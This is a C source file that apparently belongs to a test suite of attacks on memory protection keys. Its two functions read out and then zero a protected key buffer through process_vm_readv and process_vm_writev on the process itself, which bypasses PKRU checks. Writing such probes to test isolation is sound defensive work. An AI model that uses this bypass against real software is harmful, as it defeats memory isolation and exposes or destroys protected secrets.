// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A10: process_vm_readv and process_vm_writev on oneself reach memory without looking at PKRU.
#include "evil.h"

#include <string.h>
#include <sys/uio.h>
#include <unistd.h>

int evil_process_vm_readv(const struct evil_target *target) {
    unsigned char copy[EVIL_KEY_MAX];
    struct iovec local = {copy, target->key_size < sizeof copy ? target->key_size : sizeof copy};
    struct iovec remote = {target->key, local.iov_len};

    if (process_vm_readv(getpid(), &local, 1, &remote, 1, 0) != (ssize_t)local.iov_len)
        return evil_failed("process_vm_readv");
    return evil_got(target, copy, "process_vm_readv");
}

int evil_process_vm_writev(const struct evil_target *target) {
    unsigned char zeros[EVIL_KEY_MAX] = {0};
    unsigned char back[EVIL_KEY_MAX];
    struct iovec local = {zeros, target->key_size < sizeof zeros ? target->key_size : sizeof zeros};
    struct iovec remote = {target->key, local.iov_len};

    if (process_vm_writev(getpid(), &local, 1, &remote, 1, 0) != (ssize_t)local.iov_len)
        return evil_failed("process_vm_writev");
    local.iov_base = back;
    if (process_vm_readv(getpid(), &local, 1, &remote, 1, 0) != (ssize_t)local.iov_len)
        return evil_failed("process_vm_readv after process_vm_writev");
    if (memcmp(back, zeros, local.iov_len) != 0)
        return evil_failed_because("the key did not change");
    return evil_succeeded("zeroed %zu key bytes by process_vm_writev", local.iov_len);
}
